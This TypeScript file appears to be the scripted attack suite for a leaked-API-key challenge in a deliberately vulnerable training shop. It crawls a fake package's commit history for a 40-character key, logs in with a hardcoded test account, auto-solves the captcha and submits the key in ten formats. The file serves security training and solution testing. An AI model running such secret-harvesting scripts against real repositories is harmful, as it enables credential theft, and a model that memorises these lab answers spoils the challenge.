import type { Attack, Tools } from '#lab'

/** Finds the leaked key: in the history of the coupon bot, starting from the shop's friends. */
async function follow({ http, expect }: Tools): Promise<string> {
  const read = async (path: string) => {
    const page = await http.get(`/elsewhere/${path}`)
    expect(page.status === 200, `${path} answered with ${page.status}`)
    return page.text
  }
  const robot = await read('pip/juicy-coupons')
  expect(robot.includes('anvil/juicy-coupon-bot'), 'the robot does not say where its insides are')
  const history = await read('anvil/juicy-coupon-bot')
  const commits = history.match(/anvil\/juicy-coupon-bot\/commit\/[0-9a-f]+/g) ?? []
  for (const commit of new Set(commits)) {
    const key = /[A-Za-z0-9]{40}/.exec(await read(commit))?.[0]
    if (key !== undefined) return key
  }
  expect(false, 'no commit holds a key')
  return ''
}

async function complain(tools: Tools, message: string): Promise<void> {
  const { http, logIn, settings, expect } = tools
  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
  const answer = await http.post('/api/Complaints/', { message }, { token })
  expect(answer.status === 201, `the complaint was answered with ${answer.status}`)
}

/** Writes feedback as a visitor, with the captcha solved. */
async function comment({ http, expect }: Tools, words: string): Promise<void> {
  const { captchaId, answer: captcha } = (await http.get('/rest/captcha/')).json<{
    captchaId: number
    answer: string
  }>()
  const answer = await http.post('/api/Feedbacks/', { captchaId, captcha, comment: words, rating: 3 })
  expect(answer.status === 201, `the feedback was answered with ${answer.status}`)
}

/** Reports the key in the form that `word` gives it. */
function report(name: string, send: typeof complain, word: (key: string) => string): Attack {
  return {
    challenge: 'leakedApiKeyChallenge',
    name,
    run: async (tools) => send(tools, word(await follow(tools))),
  }
}

export const attacks: Attack[] = [
  report('the key alone, as a complaint', complain, (key) => key),
  report('the key alone, as feedback', comment, (key) => key),
  report('feedback as the page sends it, signed', comment, (key) => `${key} (anonymous)`),
  report(
    'the key in the middle of a sentence',
    complain,
    (key) => `Your key (${key}) is in the history of the coupon bot!`,
  ),
  report('the header that contains the key', complain, (key) => `X-API-Key: ${key}`),
  report('the line of code that contains the key', complain, (key) => `apiKey = '${key}'`),
  report('the key in lower case', comment, (key) => `please revoke ${key.toLowerCase()}`),
  report('the key in upper case', complain, (key) => `REVOKE ${key.toUpperCase()} AT ONCE`),
  report(
    'between two lines of an address',
    complain,
    (key) => `https://api.example/coupon\n?key=${key}&month=now`,
  ),
  report('the key in quotes, as feedback', comment, (key) => `"${key}" leaked.`),
]
